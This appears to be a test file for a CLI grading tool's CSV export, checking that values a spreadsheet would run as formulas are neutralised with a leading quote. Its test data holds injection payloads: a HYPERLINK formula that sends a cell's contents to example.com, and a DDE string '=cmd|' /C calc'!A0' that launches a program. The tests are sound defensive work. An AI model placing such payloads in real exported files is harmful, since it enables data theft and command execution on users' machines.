/**
 * `jixiao batch --format csv` writes ids, grades and issues as text: what a spreadsheet would run
 * as a formula is neutralised as the CSV 评分表 does it (src/report/sheet.ts, formulaSafe); numbers
 * stay numbers.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvText } from '../src/cli/batch/score.js';
import { readCsv } from '../src/import/table.js';
import { csvField } from '../src/report/sheet.js';
import { unguardFormula } from '../src/source/cells.js';
import { runsAsFormula } from './report/formula-oracle.js';

const bin = resolve('dist/cli.cjs');
const tmp = resolve('tests/.tmp/cli-batch-csv-guard');
const yunxi = JSON.parse(readFileSync('examples/batch/records.ndjson', 'utf8').split('\n')[0]!) as { meta: Record<string, string> };
const HOSTILE = ['=HYPERLINK("http://example.com/?q="&A1,"点击")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', '=1,2'];

beforeAll(() => {
  rmSync(tmp, { recursive: true, force: true });
  mkdirSync(tmp, { recursive: true });
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe('csvText', () => {
  // A text's own leading quotes before a formula get one more, so that `jixiao import` can take
  // off exactly the one the writer added (unguardFormula): `'-` is written `''-`.
  const guardedText = (s: string) => runsAsFormula(s.replace(/^'+/, ''));
  it("property: a cell read back is the text, or the text after ' when a spreadsheet would run it (after the text's own quotes); it never starts a formula; plain numbers stay", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.constantFrom(...HOSTILE), fc.stringMatching(/^-?\d{1,6}(\.\d{1,3})?$/), fc.string({ unit: fc.constantFrom("'", '-', '=', '1', ' ', 'a') })), (s) => {
        const back = readCsv(`${csvText(s)}\n`)[0]?.[0] ?? '';
        const number = /^-?\d+(\.\d+)?$/.test(s);
        expect(back).toBe(number || !guardedText(s) ? s.replace(/\r\n?/g, '\n') : `'${s}`.replace(/\r\n?/g, '\n'));
        expect(runsAsFormula(back)).toBe(false);
        expect(back).not.toMatch(/^[=+@\t\r]/);
        if (!number) expect(back).not.toMatch(/^-/);
        if (!/\r/.test(s)) expect(unguardFormula(back)).toBe(s);
      }),
      { numRuns: 1000 },
    );
  });

  it("a text's own quote before a formula start keeps it: '- is written ''-, '-3 stays as it is", () => {
    expect(readCsv(`${csvText("'-")}\n`)[0]![0]).toBe("''-");
    expect(readCsv(`${csvText("'=1")}\n`)[0]![0]).toBe("''=1");
    expect(readCsv(`${csvText("'-3")}\n`)[0]![0]).toBe("'-3");
  });

  it('neutralises exactly as the CSV 评分表 does (the same guard)', () => {
    for (const s of HOSTILE) expect(readCsv(`x,${csvText(s)}\n`)[0]![1]).toBe(readCsv(`x,${csvField(s)}\n`)[0]![1]);
  });
});

describe.runIf(existsSync(bin))('jixiao batch --format csv with hostile ids', () => {
  it('ids and meta fields starting with = + - @ tab or CR get a leading \'; -3 and -3.5 stay numbers; totals and scores are numbers', () => {
    const ids = [...HOSTILE, '-3', '-3.5', '云溪区委办'];
    const input = join(tmp, 'hostile.ndjson');
    writeFileSync(input, `${ids.map((id, i) => JSON.stringify({ ...yunxi, meta: { ...yunxi.meta, id, 单位名称: i % 2 ? `=cmd|' /C calc'!A0` : yunxi.meta.单位名称 } })).join('\n')}\n`);
    const r = spawnSync(process.execPath, [bin, 'batch', 'hunan-department', input, '--format', 'csv', '--id', 'id,单位名称', '--summary', 'none', '--workers', '0', '--rank'], { encoding: 'utf8' });
    expect(r.status).toBe(0);
    const rows = readCsv(r.stdout);
    expect(rows[0]!.slice(0, 7)).toStrictEqual(['index', '排名', 'line', 'id', '单位名称', '总分', '满分']);
    expect(rows.slice(1).map((row) => row[3])).toStrictEqual([
      `'=HYPERLINK("http://example.com/?q="&A1,"点击")`,
      "'+1+1",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\tTAB",
      "'\nCR",
      "'=1,2",
      '-3',
      '-3.5',
      '云溪区委办',
    ]);
    expect(rows[2]![4]).toBe(`'=cmd|' /C calc'!A0`);
    expect(rows[1]![4]).toBe(yunxi.meta.单位名称);
    expect(rows.slice(1).every((row) => row[5] === '99' && row[1] === '1')).toBe(true);
    // The lines of the file: the -3 id is a bare number, not quoted or prefixed.
    expect(r.stdout.split('\n').find((l) => l.startsWith('7,'))).toMatch(/^7,1,\d+,-3,/);
  });

  it('the same from a CSV input, and the 问题 cell of a record with issues is text', () => {
    const csv = readFileSync('examples/batch/records.csv', 'utf8').split('\n');
    const input = join(tmp, 'hostile.csv');
    writeFileSync(input, [csv[0], csv[1]!.replace(/^YX-2021-01/, '"=2+5"'), csv[2]!.replace(/^EX-02,[^,]*,[^,]*,\d+/, (m) => m.replace(/\d+$/, '-3人'))].join('\n') + '\n');
    const r = spawnSync(process.execPath, [bin, 'batch', 'hunan-department', input, '--format', 'csv', '--summary', 'none', '--workers', '0'], { encoding: 'utf8' });
    expect(r.status).toBe(1);
    const rows = readCsv(r.stdout);
    expect(rows[1]![2]).toBe("'=2+5");
    expect(rows[2]![2]).toBe('EX-02');
    expect(rows[2]!.at(-1)).toMatch(/^3:4 invalid_number “-3人”不是有效的十进制数字/);
  });
});
